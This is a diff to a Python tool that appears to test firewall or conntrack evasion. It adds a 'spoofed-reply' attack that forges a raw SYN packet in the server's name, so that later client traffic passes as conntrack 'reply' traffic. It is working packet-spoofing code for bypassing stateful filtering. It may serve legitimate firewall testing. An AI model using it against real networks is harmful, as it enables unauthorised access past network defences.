@@ -249,6 +249,43 @@ def udp(args, marker):
         return "refused %d" % e.errno
 
 
+def mac(text):
+    return bytes(int(x, 16) for x in text.split(":"))
+
+
+def spoofed_reply(r, marker):
+    """A SYN in the server's name (from DST:PORT to our own address),
+    sent to the router (GWMAC in the environment), which hands it back:
+    conntrack's entry would then begin at the server, and our own SYN,
+    ACK and data would travel as that entry's "reply"."""
+    a = socket.inet_pton(r.fam, r.dst)
+    b = socket.inet_pton(r.fam, r.src)
+    tcp = struct.pack("!HHIIBBHHH", r.dport, r.sport,
+                      random.getrandbits(32), 0, 5 << 4, SYN, 65535, 0, 0)
+    if r.fam == socket.AF_INET6:
+        pseudo = a + b + struct.pack("!IxxxB", len(tcp), 6)
+    else:
+        pseudo = a + b + struct.pack("!BBH", 0, 6, len(tcp))
+    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
+    own = open("/sys/class/net/eth0/address").read().strip()
+    if r.fam == socket.AF_INET6:
+        ip = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + a + b
+        eth = mac(os.environ["GWMAC"]) + mac(own) + b"\x86\xdd"
+    else:
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64,
+                         6, 0, a, b)
+        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
+        eth = mac(os.environ["GWMAC"]) + mac(own) + b"\x08\x00"
+    p = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    p.bind(("eth0", 0))
+    p.send(eth + ip + tcp)
+    time.sleep(0.1)
+    if not r.connect():
+        return "no-synack"
+    r.send(r.isn + 1, PSH, marker_http(marker))
+    return r.outcome(2)
+
+
 def split(args, seg, rec):
     hello = client_hello(args.marker)
     if rec:
@@ -295,7 +332,7 @@ def main():
     r = Raw(a.src, a.dst, a.port, int(os.environ.get("SPORT") or 0) or None)
     attack = {"syn-late": syn_late, "reconnect": reconnect,
               "pg-hold": pg_hold, "flags": flags, "paws": paws,
-              "hostile": hostile}[a.attack]
+              "hostile": hostile, "spoofed-reply": spoofed_reply}[a.attack]
     print(attack(r, marker))
 
 
